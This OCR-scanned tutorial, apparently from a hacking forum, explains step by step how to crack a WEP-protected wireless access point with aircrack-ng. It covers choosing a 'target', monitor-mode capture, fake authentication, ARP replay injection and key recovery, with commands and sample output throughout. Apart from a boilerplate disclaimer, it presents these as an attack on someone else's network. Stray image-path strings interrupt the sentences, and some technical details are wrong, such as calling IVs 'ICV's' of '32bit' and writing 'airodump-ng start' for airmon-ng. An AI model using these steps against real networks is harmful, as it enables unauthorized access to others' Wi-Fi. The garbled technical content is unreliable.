Cracking WEP with the aircrack-ng suite


Linux CMD experience
Backtrack 4 R2 or Ubuntu 7.10 + patched WiFiDrivers + Aircrack-ng suite
common sense

The information in this tutorial is for educational and informational purposes only, use it at your own risk., it's members, crew, and affiliates cannot be held responsible for the misuse of this information.

WEP encryption has been hailed as one of the least secure methods of securing a wireless access point in the history of WiFi since wireless encryption standards began being developed. The main reason for this isthat fragments of the key are sent between a client computer and the access point in 32bit initialization vectors commonly referredto as ICV's. Statistically it has been shown that a certain volume of these have weak encryption and are vulnerable to packet analysis. The number of packets required to crack an access point's key can vary from 200 to 500 thousand for 64 and 128 bit encryption respectively.

**This Tutorial will cover a basic WEP crack
**It is by no means exhaustive and is meant for
**A jumping off point, from here I send you to Google
**The place where I first got my information.


The first step in any cracker's attempt at a WiFi access point is to pick a target. This can be achieved by running airmon-ng to list any and all available network adapters.

 Interface       Chipset         Driver
 wifi0           Atheros         madwifi-ng
 ath0            Atheros         madwifi-ng VAP (parent: wifi0) (VAP destroyed)

Then you want to type airodump-ng start (adapter name: ath0, wlan0, wlan1, etc) What this does is put you wireless adapter into promiscuous or monitor mode which allows it to accept all traffic and basically grab ARP packets and such from out of the air, it also allows tha adapter to do what is called packet injection, basically shooting packets into the network to get a response from the Access point. The next command to run is airodump-ng (adapter name: mon0, mon1, eth0, etc.) this will list all available access points and let you choose one. you will want to pick one with the best signal. The way to check what the best signal is is to look at the pwr column while the program is running. a strong signal will be a low number preceded by a dash (-) such as -56 or -86. The First example would be the stronger one as I believe the strength is measured in -dBm or the power ratio in decibels (dB) of the measured power referenced to one milliwatt. the lower number being stronger as you get more towards a positive output of power.

 CH  9 ][ Elapsed: 8 mins ][ 2007-03-21 19:25BSSID              PWR RXQ  Beacons    #Data, #/s  CH  MB  ENC  CIPHER AUTH ESSID
 00:14:6C:7E:40:80   42 100     5240   178307  338   9  54  WEP  WEP         teddy
 BSSID              STATION            PWR  Lost  Packets  Probes
 00:14:6C:7E:40:80  00:0F:B5:88:AC:82   42     0   183782

Once you have selected your target, make note of the BSSID, Channel, and the amount of data it recieves. Another good indicator of a good accesspoint to crack would be a reasonable amount of data recieved (80-120 without injection, can be more). You would then run the command airodump-ng -w filename --channel (channel of target) --bssid (bssid or MAC address of target) (interface to capture on, mon0, eth0, whatever airmon gives you asthe monitor mode interface typically mon0)


airodump-ng -w output --channel 9 --bssid 00:14:6C:7E:40:80 ath0

At this stage you would then open a tab in your console window for a separate session and run aireplay-ng -1 0 -a (bssid of target) (interface) this is a fake authentication attack and will give you something like this:

18:18:20  Sending Authentication Request
18:18:20  Authentication successful
18:18:20  Sending Association Request
18:18:20  Association successful Smile

if you are successful. once you have achieved a successful association then you run the injection to gather data. (you want to run this alongside airodump-ng because airodump captures and dumps packets to a .cap file that you will be running through aircrack-ng). To set the attack we will be running this command aireplay-ng -3 -b (bssid of target) (interface) . This command starts an ARP request replay attack which will stimulate the gathering of data that you need to crack the access point with.


aireplay-ng -3 -b 00:14:6C:7E:40:80 ath0

You Should see this:

Saving ARP requests in replay_arp-0321-191525.cap
 You should also start airodump-ng to capture replies.
 Read 629399 packets (got 316283 ARP requests), sent 210955 packets...

open another console window, a third one, and enter aircrack-ng filename.cap and aricrack will attempt acrack with what you have captured, and if it does not succeed it will monitor the amount of data you have recieved and continue trying to crack the key at regular intervals. once the crack has succeeded you will know it by a screen that has this:

                                              Aircrack-ng0.9
                              [00:03:06] Tested 674449 keys (got 96610 IVs)
 KB    depth   byte(vote)
  0    0/  9   12(  15) F9(  15) 47(  12) F7(  12) FE(  12) 1B(   5) 77(   5) A5(   3) F6(   3) 03(   0)
  1    0/  8   34(  61) E8(  27) E0(  24) 06(  18) 3B(  16) 4E(  15) E1(  15) 2D(  13) 89(  12) E4(  12)
  2    0/  2   56(  87) A6(  63) 15(  17) 02(  15) 6B(  15) E0(  15) AB(  13) 0E(  10) 17(  10) 27(  10)
  3    1/  5   78(  43) 1A(20) 9B(  20) 4B(  17) 4A(  16) 2B(  15) 4D(  15) 58(  15) 6A(  15) 7C(  15)KEY FOUND! [ 12:34:56:78:90 ]
      Probability: 100%

this screen will let you know that you have successfully cracked the key and you can copy it down to use or test. you cn backup the .cap files to a flash drive and crack at a later date if you losethe key. though if the access point's key changes you may have to crack itagain.

This is all that is really needed to know to crack a WEPencrypted access point.